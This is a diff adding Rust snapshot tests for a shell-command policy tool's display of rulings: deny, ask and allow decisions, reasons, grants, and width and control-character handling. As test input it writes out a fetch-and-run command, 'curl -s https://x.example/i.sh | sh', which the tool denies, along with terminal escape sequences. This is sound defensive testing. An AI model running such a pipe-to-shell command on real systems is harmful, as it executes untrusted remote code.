@@ -1,0 +1,121 @@
+//! What people see of an explained command.
+
+use haft::effect::Danger;
+use haft::process::Level;
+use haft_policy::decision::{Class, Decision, Ruling};
+use haft_policy::rule::EffectSort;
+
+use super::judged::{Confined, Explained, JudgedPart};
+use super::shown;
+
+fn ruling(decision: Decision, rule: &str, reason: &str) -> Ruling {
+    let (rule, reason) = (rule.to_owned(), reason.to_owned());
+    Ruling { decision, class: Class::Ordinary, rule, reason, instead: "read it first".to_owned() }
+}
+
+/// A command with its parts: the text, what it does, the decision and the rule.
+fn explained(command: &str, parts: &[(&str, &str, Decision, &str)]) -> Explained {
+    let parts: Vec<JudgedPart> = parts
+        .iter()
+        .map(|(text, does, decision, rule)| {
+            let from = command.find(text).expect("the part is in the command");
+            let ruling = ruling(*decision, rule, &format!("It would {does}."));
+            let sort = EffectSort::Dangerous(Danger::DownloadedCode);
+            JudgedPart { does: (*does).to_owned(), part: from..from + text.len(), sort, ruling }
+        })
+        .collect();
+    let ruling = parts.iter().map(|part| part.ruling.clone()).reduce(Ruling::stricter).expect("there is a part");
+    let confined = Confined { required: Level::Full, network: false };
+    Explained { command: command.to_owned(), ruling, parts, confined, grants: Vec::new() }
+}
+
+fn shown(explained: &Explained, width: usize) -> String {
+    let lines: Vec<String> = shown::lines(explained, width).iter().map(shown::ShownLine::text).collect();
+    lines.join("\n")
+}
+
+fn downloaded() -> Explained {
+    let parts = [
+        ("curl -s https://x.example/i.sh", "connect to x.example", Decision::Ask, "network"),
+        ("sh", "run text that comes from the network", Decision::Deny, "downloaded code"),
+    ];
+    // The last `sh` is the shell; the first one ends the address.
+    let mut explained = explained("curl -s https://x.example/i.sh | sh", &parts);
+    explained.parts[1].part = 33..35;
+    explained
+}
+
+#[test]
+fn a_denied_command_is_understood_at_a_glance() {
+    insta::assert_snapshot!(shown(&downloaded(), 100), @r#"
+    deny   curl -s https://x.example/i.sh | sh
+                                            ~~
+      sh                          would run text that comes from the network  deny   "downloaded code"
+      curl -s https://x.example…  would connect to x.example                  ask    "network"
+    Why: It would run text that comes from the network. (rule "downloaded code")
+    Instead: read it first
+    "#);
+}
+
+#[test]
+fn the_same_fits_a_narrow_screen() {
+    insta::assert_snapshot!(shown(&downloaded(), 40), @r#"
+    deny   curl -s https://x.example/i.sh |
+           sh
+           ~~
+      deny sh
+           would run text that comes from
+           the network
+           "downloaded code"
+      ask  curl -s https://x.example/i.sh
+           would connect to x.example
+           "network"
+    Why: It would run text that comes from
+    the network. (rule "downloaded code")
+    Instead: read it first
+    "#);
+}
+
+#[test]
+fn a_command_that_is_asked_about_says_how_it_would_run_and_what_can_be_granted() {
+    let mut explained = explained(
+        "ls && rm -r build",
+        &[
+            ("ls", "list .", Decision::Allow, "reads inside"),
+            ("rm -r build", "remove build", Decision::Ask, "commands that remove"),
+        ],
+    );
+    explained.grants = vec!["exactly this command in this session: ls && rm -r build".to_owned()];
+    insta::assert_snapshot!(shown(&explained, 80), @r#"
+    ask    ls && rm -r build
+                 ~~~~~~~~~~~
+      rm -r build  would remove build  ask    "commands that remove"
+      ls           would list .        allow  "reads inside"
+    Why: It would remove build. (rule "commands that remove")
+    Instead: read it first
+    If allowed, it runs: in the full sandbox, without the network; undo covers its
+    changes
+    Can be granted: exactly this command in this session: ls && rm -r build
+    "#);
+}
+
+#[test]
+fn no_line_is_wider_than_the_screen_and_nothing_commands_the_terminal() {
+    let command = format!("echo \u{1b}[2J\u{202e}漢字\t{}\necho b", "word ".repeat(40));
+    let parts = [(command.as_str(), "run \u{1b}]0;x\u{7}\nthings", Decision::Ask, "a\u{1b}b")];
+    for width in [20, 40, 72, 100, 200] {
+        for line in shown(&explained(&command, &parts), width).lines() {
+            assert!(line.chars().count() <= width, "{width}: {line}");
+            assert!(!line.chars().any(|c| c.is_control() || c == '\u{202e}'), "{line:?}");
+        }
+    }
+}
+
+#[test]
+fn many_parts_are_summed_up() {
+    let command = "true; ".repeat(60);
+    let mut explained = explained(&command, &[("true", "only compute or print", Decision::Allow, "prints")]);
+    let part = explained.parts[0].clone();
+    explained.parts = (0..60).map(|number| JudgedPart { does: format!("print {number}"), ..part.clone() }).collect();
+    assert!(shown(&explained, 100).contains("… and 48 more, of which 48 are allowed"), "{}", shown(&explained, 100));
+}
